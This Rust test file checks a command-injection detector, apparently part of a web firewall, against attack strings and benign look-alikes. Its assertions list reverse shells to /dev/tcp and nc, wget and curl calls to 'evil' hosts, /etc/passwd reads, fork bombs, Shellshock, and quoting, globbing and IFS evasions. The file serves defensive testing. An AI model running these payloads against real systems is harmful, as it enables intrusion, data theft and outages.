use super::*;

fn score(text: &str) -> Option<u8> {
    detect(text, Source::Arg).map(|h| h.score)
}

fn blocked(text: &str) -> bool {
    score(text).is_some_and(|s| s <= 20)
}

#[test]
fn commands_after_separators_are_recognised() {
    assert!(blocked(";cat /etc/passwd"));
    assert!(blocked("x | id"));
    assert!(blocked("127.0.0.1 && whoami"));
    assert!(blocked("a\nwget http://evil/x.sh"));
}

#[test]
fn substitutions_run_commands() {
    assert!(blocked("$(whoami)"));
    assert!(blocked("`id`"));
    assert!(blocked("x=<(cat /etc/passwd)"));
    assert!(blocked("${IFS}"));
}

#[test]
fn quote_backslash_and_expansion_evasions_are_undone() {
    assert!(score("c'a't /etc/passwd").is_some_and(|s| s <= 6));
    assert!(score("w\"h\"oami").is_some_and(|s| s <= 6));
    assert!(score("ca\\t /etc/passwd").is_some_and(|s| s <= 6));
    assert!(score("cu$@rl evil.com").is_some_and(|s| s <= 6));
    assert!(blocked("cat${IFS}/etc/passwd"));
}

#[test]
fn globbed_command_names_are_matched() {
    assert!(blocked("/???/c?t /etc/passwd"));
    assert!(blocked("/bin/ca? /et*/passwd"));
}

#[test]
fn shellshock_and_reverse_shells_are_certain() {
    assert!(score("() { :;}; /bin/bash -c id").is_some_and(|s| s <= 5));
    assert!(blocked("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
}

#[test]
fn wrapped_commands_are_in_command_position() {
    assert!(blocked("time ifconfig"));
    assert!(blocked("nohup curl evil.com"));
}

#[test]
fn prose_with_command_words_is_not_an_attack() {
    for text in [
        "hello; time he came",
        "a hero; more than",
        "The zip on my coat is stuck",
        "I'd like to order by phone, is that possible?",
        "time warner",
        "ping pong tables",
        "Cat lovers: sort your photos by date",
        "PG30 | SELF TAPPING SCREW",
    ] {
        assert!(!blocked(text), "{text}");
    }
}

#[test]
fn sensitive_upload_names_are_recognised() {
    assert!(detect_filename(".htaccess").is_some());
    assert!(detect_filename("uploads/web.config").is_some());
    assert_eq!(detect_filename("holiday.jpg"), None);
}

#[test]
fn fork_bombs_and_arithmetic_expansion_are_recognised() {
    assert!(blocked(":(){ :|:& };:"));
    assert!(blocked("f(){ f & f; };f"));
    assert!(blocked("f(){ f()|f(); }; f"));
    assert!(!blocked("function f() { return a || b; }"));
    assert!(blocked("$[2 2]"));
    assert!(blocked("$((1+1))"));
}

#[test]
fn a_route_named_like_a_command_is_not_injection() {
    assert_eq!(detect("/whoami", Source::Path), None);
    assert_eq!(detect("/api/whoami", Source::Path), None);
    assert!(detect("/cgi-bin/a.cgi;cat /etc/passwd", Source::Path).is_some_and(|h| h.score <= 20));
}

#[test]
fn a_markdown_list_is_not_a_glob_command() {
    // `* item one` at the start of a line matched the first command name a lone `*` can
    // spell: every markdown bullet list was an attack.
    assert_eq!(score("# Title\n\n* item one\n* item two"), None);
    assert_eq!(score("- [ ] task\n* done"), None);
    assert!(blocked(";/???/c?t /etc/passwd"));
    assert!(blocked(";/bin/ca* /etc/passwd"));
}

#[test]
fn placeholders_and_program_names_in_sentences_are_not_commands() {
    for text in [
        "my cat's name is ${pet}",
        "the ${HOME} variable",
        "Hello ${name}, your order shipped.",
        "%TEMP% folder is full",
        "clear the %TEMP% folder",
        "passwd reset",
        "how to reset passwd on ubuntu",
    ] {
        assert!(!blocked(text), "{text}: {:?}", score(text));
    }
}

#[test]
fn variables_and_programs_that_build_commands_stay_blocked() {
    for text in [
        "${IFS}",
        "${cmd}",
        "cat${IFS}/etc/passwd",
        "c${u}at /etc/passwd",
        "${SHELL} -c \"echo hi\"",
        "%COMSPEC% /c dir",
        "type %SYSTEMROOT%\\win.ini",
        "; passwd root",
        "cscli alerts list",
        "ansible-vault decrypt secret",
    ] {
        assert!(blocked(text), "{text}: {:?}", score(text));
    }
}

/// A word, a slash and a program's name is a relative path only a binary directory makes a
/// program: `read/write` and `docs/id` are words (red-team finding: each was blocked, and
/// so was about one random base64 value in a thousand); binaries reached through a
/// directory still are programs.
#[test]
fn relative_paths_name_programs_only_from_binary_directories() {
    for text in [
        "read/write",
        "with/w",
        "docs/id",
        "gu/ls",
        "size/w",
        "QmFz/id",
    ] {
        assert!(!blocked(text), "{text}: {:?}", score(text));
    }
    for text in [
        "/bin/ls",
        "/usr/bin/id",
        "bin/sh",
        "usr/bin/id",
        "./id",
        "../../bin/sh -c id",
        "~/bin/nc -e sh",
    ] {
        assert!(blocked(text), "{text}: {:?}", score(text));
    }
}

/// An SSH public key pasted into a form names its key type, not a program (third red
/// team's finding: every one was blocked); the tools stay programs.
#[test]
fn ssh_public_keys_are_not_commands() {
    for key in [
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA user@host",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@laptop",
    ] {
        assert!(!blocked(key), "{key}: {:?}", score(key));
    }
    assert!(blocked("ssh-keygen -t rsa -f /tmp/k"));
}

/// The dynamic loader runs the binary it is given: that binary is in command position
/// (third red team's finding: `lib64/ld-linux-x86-64.so.2 bin/sh -c id` passed).
#[test]
fn programs_run_through_the_dynamic_loader_are_commands() {
    for text in [
        "x; lib64/ld-linux-x86-64.so.2 bin/sh -c id",
        "x; /lib/ld-linux.so.2 /usr/bin/id",
        "x; lib/ld-musl-x86_64.so.1 usr/bin/nc -e sh 203.0.113.5 4444",
    ] {
        assert!(blocked(text), "{text}: {:?}", score(text));
    }
}

/// The first word is read no further than 33 bytes, with the answer of reading it whole:
/// a word of 32 bytes or fewer is looked up, a longer one never.
#[test]
fn the_first_word_is_found_within_its_bound_as_when_read_whole() {
    fn whole(text: &str) -> bool {
        let Some(first) = text.split_ascii_whitespace().next() else {
            return false;
        };
        if first.len() > 32
            || !first.as_bytes()[0].is_ascii_alphabetic()
                && !first.starts_with(['/', '.', '\'', '"'])
        {
            return false;
        }
        let name = first.rsplit('/').next().unwrap_or(first);
        names_program_any_case(name.as_bytes())
    }
    let pad = |n: usize| "x".repeat(n);
    let mut texts = vec![
        String::new(),
        " \t\r\n".to_owned(),
        "id".to_owned(),
        "  ID -a".to_owned(),
        "/usr/bin/id".to_owned(),
        "'cat' /etc/passwd".to_owned(),
        "\"wget\"".to_owned(),
        "./curl x".to_owned(),
        "1id".to_owned(),
        "hello world".to_owned(),
    ];
    for n in 25..=40 {
        texts.push(format!("/{}/id", pad(n - 4)));
        texts.push(format!("{}/id rest", pad(n - 3)));
        texts.push(format!("\t{}/cat", pad(n - 4)));
        texts.push(pad(n));
    }
    for text in &texts {
        assert_eq!(starts_with_program(text), whole(text), "{text:?}");
    }
    assert!(starts_with_program(&format!("/{}/id", pad(28))));
    assert!(!starts_with_program(&format!("/{}/id", pad(29))));
}
